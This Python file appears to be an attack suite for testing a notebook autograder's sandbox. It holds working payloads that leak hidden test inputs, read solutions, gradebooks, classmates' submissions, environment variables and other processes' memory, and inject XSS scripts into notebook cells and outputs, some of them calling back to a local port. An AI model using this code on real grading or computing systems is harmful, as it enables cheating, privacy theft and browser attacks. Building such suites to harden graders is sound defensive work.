"""Attacks that want to see what a learner must not see: hidden checks, their inputs, solutions, other people's work, the seed."""

import nbformat

from .attack import ADAM, CLIP, last, of_cells

leaks = of_cells("leaks")

# Each call leaves one text in SEEN: the first numbers of the gradient and the settings, so exact that no other call has it.
RECORD = """@MENDED@

SEEN = []
mended_step = adam_step


def text_of(grad, lr, beta1, beta2):
    return "in:" + ",".join(float(number).hex() for number in [*np.ravel(grad)[:3], lr, beta1, beta2])


def adam_step(param, grad, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
    SEEN.append(text_of(grad, lr, beta1, beta2))
    tell(SEEN[-1])
    return mended_step(param, grad, m, v, t, lr, beta1, beta2, eps)


def tell(text):
    pass
"""

AFTER_VISIBLE = '''
def is_hidden():
    """A learner can count the calls of the visible check: 12 + 1 + 1 + 2."""
    return len(SEEN) > 16
'''

SHOW_ALL = """
import base64, codecs
print("\\n".join(SEEN))
print(repr(globals().get("SEEN")), len(SEEN))
raise ValueError("\\n".join(SEEN))
"""


def hidden_inputs(facts):
    """The texts that the hidden check's own calls leave in SEEN."""
    return facts.hidden_inputs(ADAM, RECORD)


def recorded(tell="", more=""):
    """The mended code, which tells what it is called with."""
    return {ADAM: RECORD + (f"\n\ndef tell(text):\n{tell}\n" if tell else "") + more}


SCRIPTS = """<script>window.@MARK@ = 1</script><img src=x onerror="alert('@MARK@')"><svg onload="alert('@MARK@')"><script>1</script></svg>
<iframe srcdoc="<script>alert('@MARK@')</script>"></iframe><a href="javascript:alert('@MARK@')">@MARK@</a>
<object data="data:text/html,<script>alert('@MARK@')</script>"></object><embed src="javascript:alert('@MARK@')">
<form action="javascript:alert('@MARK@')"><button formaction="javascript:alert('@MARK@')">@MARK@</button></form>
<details open ontoggle="alert('@MARK@')">x</details><math><mtext></mtext><style><img src=x onerror=alert('@MARK@')></style></math>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:@TCP@/@MARK@"><base href="http://127.0.0.1:@TCP@/@MARK@/">
<link rel="stylesheet" href="http://127.0.0.1:@TCP@/@MARK@"><style>* { background: url(http://127.0.0.1:@TCP@/@MARK@) }</style>
"""


def scripts_in_the_file(notebook, release):
    """Scripts wherever a notebook's file holds text: attachments, metadata, saved outputs, languages, titles, tags, ids."""
    script = release.fill(SCRIPTS)
    svg = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg=="
    notebook.metadata["title"], notebook.metadata["authors"] = script, [{"name": script}]
    notebook.metadata["kernelspec"] = {"name": script, "display_name": script, "language": script}
    notebook.metadata["language_info"] = {"name": script, "pygments_lexer": script, "mimetype": script, "codemirror_mode": script}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {script: script}}}
    for cell in notebook.cells:
        cell.metadata["tags"] = [script]
        cell.metadata["name"] = script
        if cell.cell_type == "markdown":
            cell["attachments"] = {"x.svg": {"image/svg+xml": svg}, script: {"text/html": script}}
            cell.source += f'\n![x](attachment:x.svg "{script}")\n' + script
        else:
            data = {"text/html": script, "application/javascript": script, "image/svg+xml": script, "text/markdown": script}
            data |= {"text/latex": script, "application/vnd.jupyter.widget-view+json": {"model_id": script}}
            cell.outputs = [
                nbformat.v4.new_output("display_data", data, metadata={"text/html": {"isolated": True}}),
                nbformat.v4.new_output("error", ename=script, evalue=script, traceback=[script]),
                nbformat.v4.new_output("stream", name="stderr", text=script),
            ]


READ = """
import os

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(200_000).decode("utf-8", "replace")
    except OSError as error:
        return f"{type(error).__name__}"
"""

ATTACKS = [
    leaks(
        "printed-inputs",
        "Prints every input that it gets.",
        fix=recorded("    print(text)\n    import sys\n    print(text, file=sys.stderr)"),
        earned=(ADAM,),
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-exceptions",
        "Raises what it was called with, as text, notes, causes and names of files, once the calls of the visible check are over.",
        fix=recorded(
            """    if is_hidden():
        namespace = {"__name__": text}
        try:
            exec(compile("def f():\\n    raise RuntimeError(1)\\n", text, "exec"), namespace)
            namespace["f"]()
        except RuntimeError as error:
            error.add_note(text)
            raise ValueError(text) from error""",
            AFTER_VISIBLE,
        ),
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-globals",
        "Keeps its inputs in a global, a builtin, the shell and the module, and shows them in later cells of its own.",
        fix=recorded("    import builtins, clinic\n    builtins.SEEN = clinic.SEEN = np.SEEN = SEEN"),
        extra=[
            (ADAM + "-check", SHOW_ALL),
            (CLIP, SHOW_ALL),
            (last("optimizers"), SHOW_ALL),
            (
                last("optimizers"),
                "import builtins, clinic\nprint(getattr(builtins, 'SEEN', 0), getattr(clinic, 'SEEN', 0), vars(np).get('SEEN'))",
            ),
        ],
        earned=(ADAM,),
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-files",
        "Writes its inputs into files, names of files, links and attributes, and lists them in a later cell.",
        fix=recorded(
            """    import os
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("TMPDIR", "."), "/run", "@OUTSIDE@"):
        try:
            with open(os.path.join(place, "seen.txt"), "a") as file:
                file.write(text + "\\n")
            os.mkdir(os.path.join(place, text[:200]))
        except OSError:
            pass"""
        ),
        extra=[
            (
                last("optimizers"),
                READ
                + """
for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("TMPDIR", "."), "/run", "@OUTSIDE@"):
    print(place, read(os.path.join(place, "seen.txt")), os.listdir(place) if os.path.isdir(place) else "")
""",
            )
        ],
        earned=(ADAM,),
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-figures",
        "Puts its inputs into pictures: titles, labels, and the text that a PNG carries.",
        fix=recorded(
            "    if len(SEEN) % 25 == 0:\n        picture('\\n'.join(SEEN))",
            """
import struct, zlib
from IPython.display import Image, display
import matplotlib.pyplot as plt

def png(text):
    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    pixel = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"tEXt", b"Comment\\0" + text.encode())
    return b"\\x89PNG\\r\\n\\x1a\\n" + pixel + chunk(b"IDAT", zlib.compress(b"\\0\\0")) + chunk(b"IEND", b"")

def picture(text):
    display(Image(data=png(text)))
    display({"text/plain": text, "image/png": png(text)}, metadata={"text": text}, raw=True)
    fig = plt.figure(label=text, figsize=(1, 1))
    fig.suptitle(text[:50])
    display(fig)
    plt.show()
""",
        ),
        extra=[(last("optimizers"), "picture('\\n'.join(SEEN))")],
        earned=(ADAM,),
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-answers",
        "Returns what it was called with, so that the failing check shows it as what it got.",
        fix={
            ADAM: RECORD
            + AFTER_VISIBLE
            + """
recorded_step = adam_step

def adam_step(param, grad, *args, **settings):
    answer = recorded_step(param, grad, *args, **settings)
    if is_hidden():
        name = SEEN[-1]
        odd = type(name, (), {"__repr__": lambda self: name, "__qualname__": name, "__module__": name})
        return [name, [name], odd(), {name: name}, odd][len(SEEN) % 5]
    return answer
"""
        },
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-logs",
        "Tells its inputs by warnings, logging, the bare descriptors 1 and 2, C's printf, and other people's streams.",
        fix=recorded(
            """    import ctypes, logging, os, sys, warnings
    warnings.warn(text)
    logging.basicConfig()
    logging.getLogger(text).error(text)
    for number in (1, 2):
        try:
            os.write(number, text.encode())
        except OSError:
            pass
    for stream in (sys.__stdout__, sys.__stderr__):
        print(text, file=stream)
    ctypes.CDLL(None).puts(text.encode())
    sys.stdout.flush()"""
        ),
        earned=(ADAM,),
        may_refuse=True,  # who writes on the descriptor of a channel loses the process
        secret=hidden_inputs,
    ),
    leaks(
        "inputs-in-names",
        "Renames its function, its code and its module to what it was called with, and then fails.",
        fix=recorded(
            """    adam_step.__name__ = adam_step.__qualname__ = adam_step.__doc__ = text
    adam_step.__code__ = adam_step.__code__.replace(co_name=text, co_filename=text)
    mended_step.__code__ = mended_step.__code__.replace(co_name=text, co_filename=text)
    globals()[text] = text
    if is_hidden():
        raise KeyError""",
            AFTER_VISIBLE,
        ),
        secret=hidden_inputs,
    ),
    leaks(
        "manner-of-death",
        "Tells hidden inputs by the signal or status with which its process ends, if that is shown.",
        fix=recorded(
            """    import os, signal
    if is_hidden():
        os.kill(os.getpid(), signal.SIGSEGV) if len(SEEN) % 2 else os._exit(77)
        os._exit(77)""",
            AFTER_VISIBLE,
        ),
        secret=("signal 11", "SIGSEGV", "code 77", "status 77"),
    ),
    leaks(
        "expected-of-hidden",
        "Passes the visible check only, so that the hidden one shows what it expected.",
        fix={
            ADAM: """@MENDED@
right_step = adam_step

def adam_step(param, grad, m, v, t, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
    step, m, v = right_step(param, grad, m, v, t, lr, beta1, beta2, eps)
    return step - 0.001 * (len(grad) not in (1, 2, 3)), m, v
"""
        },
        secret=lambda facts: facts.expected_of_hidden(
            ADAM,
            "@MENDED@\nright_step = adam_step\ndef adam_step(param, grad, *args, **settings):\n"
            "    step, m, v = right_step(param, grad, *args, **settings)\n"
            "    return step - 0.001 * (len(grad) not in (1, 2, 3)), m, v\n",
        ),
    ),
    leaks(
        "read-frames",
        "Reads the check's source, locals and globals from frames, the heap, the line cache and the shell's history.",
        fix={
            ADAM: """@MENDED@
import contextlib, gc, inspect, linecache, sys
honest = adam_step

def adam_step(*args, **settings):
    frame = sys._getframe(1)
    while frame is not None:
        with contextlib.suppress(Exception):
            print(inspect.getsource(frame))
        print([name for name in frame.f_locals], repr(frame.f_locals)[:5000])
        frame = frame.f_back
    for name, lines in linecache.cache.items():
        if len(lines) > 2 and any("HIDDEN" in line or "elsewhere" in line for line in lines[2]):
            print(name, "".join(lines[2]))
    for thing in gc.get_objects():
        with contextlib.suppress(Exception):
            if type(thing) is dict and "elsewhere" in repr(list(thing))[:2000]:
                print(repr(thing)[:20000])
    with contextlib.suppress(NameError):
        print(In, [row for row in get_ipython().history_manager.get_range()])
    return honest(*args, **settings)
"""
        },
        extra=[(last("optimizers"), "adam_step(np.zeros(1), np.ones(1), 0, 0, 1)")],
        earned=(ADAM,),
        may_refuse=True,  # it prints for a long time
    ),
    leaks(
        "read-solutions",
        "Reads the solutions, the case files, the answers in the tests and git's objects from the disk.",
        fix={
            ADAM: READ
            + """@MENDED@
import glob, sys, zlib, clinic
course = os.path.dirname(os.path.dirname(os.path.abspath(clinic.__file__)))
for place in {"@PROJECT@", os.path.dirname(course), *(path for path in sys.path if path)}:
    for pattern in ("solutions/optimizers/cases/*grad*.py", "solutions/optimizers/*.ipynb", "tests/answers/optimizers/*clip*.py"):
        for path in glob.glob(os.path.join(place, pattern)):
            print(read(path))
    print(os.listdir(place) if os.path.isdir(place) else "")
"""
        },
        earned=(ADAM,),
        secret=lambda facts: facts.solution_lines(CLIP),
    ),
    leaks(
        "read-gradebook",
        "Reads the hidden checks and everybody's marks from the gradebook and from what is beside it.",
        fix={
            ADAM: READ
            + """@MENDED@
import glob, sqlite3
for path in ("@ROOT@/gradebook.db", "../../../gradebook.db", "../gradebook.db"):
    print(read(path)[:100000])
    try:
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
            print(book.execute("select source from source_cell").fetchall(), book.execute("select id from student").fetchall())
    except sqlite3.Error as error:
        print(error)
print(os.listdir("@ROOT@") if os.path.isdir("@ROOT@") else "", read("@ROOT@/marks.csv"), glob.glob("@ROOT@/**", recursive=True))
"""
        },
        earned=(ADAM,),
        secret=lambda facts: (facts.places.neighbour + "/", "'" + facts.places.neighbour + "'"),
    ),
    leaks(
        "read-neighbours",
        "Reads what others have handed in, and what was made of it.",
        fix={
            ADAM: READ
            + """@MENDED@
import glob
for place in ("@ROOT@", "../../..", "../..", "..", "/tmp", "/sandbox"):
    for pattern in ("submitted/*/*/*", "autograded/*/*/*", "feedback/*/*/*", "*/*/*.ipynb", "*/*.ipynb", "*.ipynb"):
        for path in glob.glob(os.path.join(place, pattern))[:20]:
            print(path, read(path))
print(read("@ROOT@/submitted/@NEIGHBOUR@/optimizers/optimizers.ipynb"))
"""
        },
        earned=(ADAM,),
        secret=lambda facts: (facts.neighbours_canary,),
    ),
    leaks(
        "read-environment",
        "Reads the environment of its own process, of its parents, and of whoever else it can see.",
        fix={
            ADAM: READ
            + """@MENDED@
import ctypes, glob
print(dict(os.environ))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
print(libc.getenv(b"CLINIC_" + b"CANARY"))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/environ"]:
    print(path, read(path)[:20000].replace("\\0", " "))
"""
        },
        earned=(ADAM,),
        secret=lambda facts: (facts.environment_canary,),
    ),
    leaks(
        "read-seed",
        "Looks for the class's private seed: in its file, in clinic.check, in the heap, in the arguments of processes.",
        fix={
            ADAM: READ
            + """@MENDED@
import gc, glob, clinic.check
print(read("@ROOT@/private_seed.txt"), read("../../../private_seed.txt"), read("private_seed.txt"))
recorded_step = adam_step

def adam_step(*args, **settings):
    print(clinic.check.private_seed, check.private_seed, vars(clinic.check).get("private_seed"), globals().get("private_seed"))
    print(check.hidden_rng(1).bit_generator.seed_seq, check.hidden_rng(1).bit_generator.state)
    return recorded_step(*args, **settings)

adam_step(np.zeros(1), np.ones(1), 0, 0, 1)
for thing in gc.get_objects():
    if type(thing) is dict and "private_seed" in thing:
        print(thing["private_seed"])
"""
        },
        extra=[(last("optimizers"), "adam_step(np.zeros(1), np.ones(1), 0, 0, 1)")],
        earned=(ADAM,),
        secret=lambda facts: facts.seed_texts(),
    ),
    leaks(
        "read-memory",
        "Reads the memory and the open files of other processes, and of its own from before it was forked.",
        fix={
            ADAM: READ
            + """@MENDED@
import re

needle = re.compile(rb"[^\\x00]{0,80}(?:CLINIC_" rb"CANARY|elsewhere|HIDDEN" rb" TESTS)[^\\x00]{0,200}")
for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} if os.path.isdir("/proc") else ():
    if pid == os.getpid():
        continue
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            print(os.readlink(f"/proc/{pid}/fd/{number}"))
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            print("REACHED" + ":@MARK@ opened the memory of", pid)
            for line in [line for line in maps if "rw-p" in line][:40]:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                print(needle.findall(memory.read(min(end - start, 1 << 22)))[:5])
    except (OSError, ValueError, OverflowError):
        pass
for number in range(3, 64):
    try:
        print(os.pread(number, 50000, 0))
    except OSError:
        pass
for line in read("/proc/self/maps").splitlines():
    if "rw-p" in line and "heap" in line:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(start)
            print([found for found in needle.findall(memory.read(min(end - start, 1 << 26))) if b"needle" not in found][:50])
"""
        },
        earned=(ADAM,),
        secret=lambda facts: (facts.environment_canary,),
    ),
    leaks(
        "left-for-another-1",
        "Leaves its hidden inputs wherever another submission might find them: files, shared memory, keys, queues, sockets.",
        fix=recorded(
            """    import os
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/run/lock", "@OUTSIDE@"):
        try:
            with open(os.path.join(place, "letter"), "a") as file:
                file.write(text + "\\n")
        except OSError:
            pass
    post(text)""",
            """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p

def post(text):
    body = text.encode()
    libc.syscall(248, b"user", b"clinic-letter", body, len(body), -4)  # add_key, to the user's own ring
    queue = libc.msgget(0x17E77E12, 0o1666)
    if queue >= 0:
        libc.msgsnd(queue, ctypes.c_char_p((1).to_bytes(8, "little") + body[:200]), 200, 0o4000)
    memory = libc.shmget(0x17E77E12, 4096, 0o1666)
    if memory >= 0:
        place = libc.shmat(memory, None, 0)
        if place and place != ctypes.c_void_p(-1).value:
            ctypes.memmove(place, body, len(body))
    try:
        from multiprocessing import shared_memory
        block = shared_memory.SharedMemory("clinic-letter", create=True, size=4096)
        block.buf[: len(body)] = body
    except Exception:
        pass
""",
        ),
        earned=(ADAM,),
        secret=hidden_inputs,
    ),
    leaks(
        "left-for-another-2",
        "Collects what the submission before it has left, and shows it.",
        fix={
            ADAM: READ
            + """@BROKEN@
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/run/lock"):
    print(read(os.path.join(place, "letter")), os.listdir(place) if os.path.isdir(place) else "")
    for name in os.listdir(place) if os.path.isdir(place) else ():
        print(read(os.path.join(place, name, "letter")), read(os.path.join(place, name))[:300])
buffer = ctypes.create_string_buffer(4096)
key = libc.syscall(249, b"user", b"clinic-letter", None, -4)  # request_key
if key > 0 and libc.syscall(250, 11, key, buffer, 4096) > 0:  # keyctl, read
    print(buffer.raw)
queue = libc.msgget(0x17E77E12, 0)
while queue >= 0 and libc.msgrcv(queue, buffer, 4000, 0, 0o4000 | 0o10000) > 0:
    print(buffer.raw[:300])
memory = libc.shmget(0x17E77E12, 0, 0)
place = libc.shmat(memory, None, 0o10000) if memory >= 0 else None
if place and place != ctypes.c_void_p(-1).value:
    print(ctypes.string_at(place, 300))
try:
    from multiprocessing import shared_memory
    print(bytes(shared_memory.SharedMemory("clinic-letter").buf[:300]))
except Exception:
    pass
"""
        },
        secret=hidden_inputs,
    ),
    leaks(
        "timing",
        "Sleeps for as long as a hidden input says, and looks for times in what comes back.",
        fix=recorded("    import time\n    time.sleep(0.002 * (text.count('e') % 3))"),
        earned=(ADAM,),
        secret=("iopub.execute_input", "shell.execute_reply", "iopub.status.busy"),
    ),
    leaks(
        "scripts-in-text",
        "Runs scripts in the reader's browser from cells of text.",
        extra=[
            (None, SCRIPTS, "markdown"),
            (
                ADAM,
                "Look: `<b>` <b onclick=alert('@MARK@')>x</b>\n\n[x](javascript:alert('@MARK@')) ![x](x 'y\" onerror=\"alert(`@MARK@`)')",
                "markdown",
            ),
            (
                ADAM + "-check",
                "$\\href{javascript:alert('@MARK@')}{x} \\style{background:url(javascript:alert(1))}{y} \\unicode{<img src=x onerror=alert('@MARK@')>}$",
                "markdown",
            ),
            (
                last("optimizers"),
                "&lt;/div&gt;</div></body></html><SCRIPT/SRC='http://127.0.0.1:@TCP@/@MARK@'></SCRIPT >\n<<script>script>alert('@MARK@')<</script>/script>",
                "markdown",
            ),
            (
                last("optimizers"),
                "<scr\0ipt>alert('@MARK@')</script><ScRiPt\n>alert('@MARK@')</sCrIpT\n><img/src='x'/onerror\n=\nalert('@MARK@')>",
                "markdown",
            ),
        ],
    ),
    leaks(
        "scripts-in-outputs",
        "Runs scripts in the reader's browser from rich outputs: HTML, Javascript, SVG, LaTeX, Markdown, links, widgets.",
        fix={
            ADAM: "@BROKEN@\nfrom IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display\n"
            "script = '''" + SCRIPTS.replace("'", '"') + "'''\n"
            "display(HTML(script), Javascript(f'alert(`{script}`)'), Latex('$' + script + '$'), Markdown(script), IFrame(script, 9, 9))\n"
            "display({'text/html': script, 'image/svg+xml': script, 'text/plain': script, 'image/png': script}, raw=True)\n"
            "display({'application/vnd.jupyter.widget-view+json': {'model_id': script}, 'image/png': '\"><script>' + script}, raw=True, metadata={'image/png': {'width': '1\"' + script}})\n"
            "print(script)\nprint('\\x1b[31m' + script + '\\x1b]8;;javascript:alert(`@MARK@`)\\x07x\\x1b]8;;\\x07')\nHTML(script)\n",
            CLIP: "@BROKEN@\nclass Script:\n    _repr_html_ = _repr_svg_ = _repr_javascript_ = _repr_latex_ = __repr__ = lambda self: script\nScript()\n",
        },
    ),
    leaks(
        "scripts-in-errors",
        "Runs scripts in the reader's browser from its code, the text of its exceptions, and the check's own message.",
        fix={
            ADAM: "script = '''" + SCRIPTS.replace("'", '"') + "'''\n# </pre></div>" + SCRIPTS.replace("\n", " ") + "\n"
            "def adam_step(*args, **kwargs):\n    raise type('<script>@MARK@</script>', (Exception,), {})(script)\n",
            CLIP: "def clip_by_global_norm(grads, max_norm):\n    return script, script\n",
        },
        extra=[
            (
                CLIP + "-check",
                "raise type('</pre>' + script, (Exception,), {'_render_traceback_': lambda self: [script]})(script)",
            )
        ],
    ),
    leaks("scripts-in-the-file", "Runs scripts from attachments, metadata, saved outputs and tags.", change=scripts_in_the_file),
]
